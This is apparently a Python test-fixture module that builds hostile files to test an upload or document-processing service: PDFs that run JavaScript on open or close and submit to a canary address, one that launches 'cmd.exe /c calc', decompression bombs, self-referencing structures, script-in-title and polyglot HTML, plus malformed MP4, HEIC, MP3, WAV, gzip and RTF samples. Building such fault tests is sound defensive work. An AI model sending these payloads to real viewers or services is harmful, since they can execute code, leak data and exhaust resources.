"""Papers, sounds and films: PDF that acts, boxes that lie of their size."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Iterator

from tests.faults.hostile.attack import EVENING, MB, NOTE, Attack, fixed


def pdf(*objects: str | bytes, root: str = "") -> bytes:
    """A PDF of these objects after its catalogue."""
    plain = [f"<</Type/Catalog/Pages 2 0 R{root}>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
             "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>", *objects]  # fmt: skip
    body = b"%PDF-1.7\n"
    for n, one in enumerate(plain, 1):
        body += b"%d 0 obj\n" % n + (one if isinstance(one, bytes) else one.encode()) + b"\nendobj\n"
    return body + b"trailer<</Root 1 0 R>>\n%%EOF\n"


def papers(canary: str) -> Iterator[tuple[str, Callable[[], bytes]]]:
    script = "app.alert(1);this.submitForm('" + canary + "/pdf')"
    yield "runs a script when opened", fixed(pdf(root=f"/OpenAction<</S/JavaScript/JS({script})>>"))
    yield "runs a script when closed", fixed(pdf(root=f"/AA<</WC<</S/JavaScript/JS({script})>>>>"))
    yield "starts a program", fixed(pdf(root="/OpenAction<</S/Launch/F(cmd.exe)/P(/c calc)>>"))
    yield "opens an address", fixed(pdf(root=f"/OpenAction<</S/URI/URI({canary}/uri)>>"))
    yield "leads to another file", fixed(pdf(root="/OpenAction<</S/GoToR/F(\\\\\\\\127.0.0.1\\\\a)/D[0/Fit]>>"))
    yield "sends a form", fixed(pdf(root=f"/OpenAction<</S/SubmitForm/F({canary}/form)>>"))
    yield "carries a program", fixed(pdf("<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream"))
    yield "has a form of XML", fixed(pdf(f"<</XFA({canary})>>", root="/AcroForm 4 0 R"))
    yield "has pages 50,000 deep", lambda: pdf(*(f"<</Type/Pages/Kids[{n} 0 R]>>" for n in range(5, 50_005)))
    yield "has pages that lead to themselves", fixed(pdf("<</Type/Pages/Kids[4 0 R]>>"))
    yield "has a table that leads to itself", fixed(b"%PDF-1.7\nxref\n0 1\ntrailer<</Prev 9>>\nstartxref\n9\n%%EOF")
    packed = zlib.compress(bytes(100 * MB), 9)
    stream = b"<</Filter/FlateDecode/Length %d>>stream\n" % len(packed) + packed + b"\nendstream"
    yield "unpacks to 100 MB", fixed(pdf(stream))
    yield "unpacks fifty times to 100 MB", fixed(pdf(*[stream] * 50))
    yield "is its first line", fixed(b"%PDF-")
    yield "is 20 MB of nothing", lambda: b"%PDF-1.7\n" + bytes(20 * MB - 9)
    yield "is 20 MB and a byte", lambda: b"%PDF-1.7\n" + bytes(20 * MB - 8)
    yield "is also a page", fixed(pdf() + b"<script>document.title='HOSTILE'</script>")
    yield "has a title that is a script", fixed(pdf("<</Title(<script>alert(1)</script>)>>"))


def box(name: bytes, body: bytes, size: int | None = None) -> bytes:
    return struct.pack(">I", len(body) + 8 if size is None else size) + name + body


def films() -> Iterator[tuple[str, bytes, bytes]]:
    for brand in (b"isom", b"mp42", b"heic", b"mif1", b"avif", b"qt  "):
        begin = box(b"ftyp", brand + bytes(4) + brand)
        name = b"a.heic" if brand in (b"heic", b"mif1") else b"a.mp4"
        yield f"{brand!r} and nothing else", name, begin
        yield f"{brand!r} with a box beyond the file", name, begin + box(b"meta", bytes(9), 2**32 - 1)
        yield f"{brand!r} with a box of no size", name, begin + box(b"moov", bytes(9), 0)
        yield (
            f"{brand!r} with boxes 2,000 deep",
            name,
            begin + b"".join(box(b"moov", b"", 8 * n) for n in range(2000, 0, -1)),
        )
    yield "an MP3 with a picture that is a page", b"a.mp3", b"ID3\x03\0\0\0\0\x7f\x7fAPIC<script>alert(1)</script>"
    yield "an MP3 with a tag of 256 MB", b"a.mp3", b"ID3\x04\0\0\x7f\x7f\x7f\x7f"
    yield "a WAV beyond the file", b"a.wav", b"RIFF\xff\xff\xff\xffWAVEfmt "
    yield "a RAR", b"a.rar", b"Rar!\x1a\x07\x01\0" + bytes(60)
    yield "a 7z", b"a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(60)
    yield "a gzip of 100 MB", b"a.gz", b"\x1f\x8b\x08" + bytes(7) + zlib.compress(bytes(100 * MB), 9)[2:]
    yield "RTF with an object", b"a.doc", b"{\\rtf1{\\object\\objocx\\objdata 0105}}"


def attacks(canary: str) -> Iterator[Attack]:
    for what, make in papers(canary):
        yield Attack("papers", what, b"a.pdf", make, (NOTE, EVENING))
    for what, name, data in films():
        yield Attack("films and sounds", what, name, fixed(data), (NOTE,))
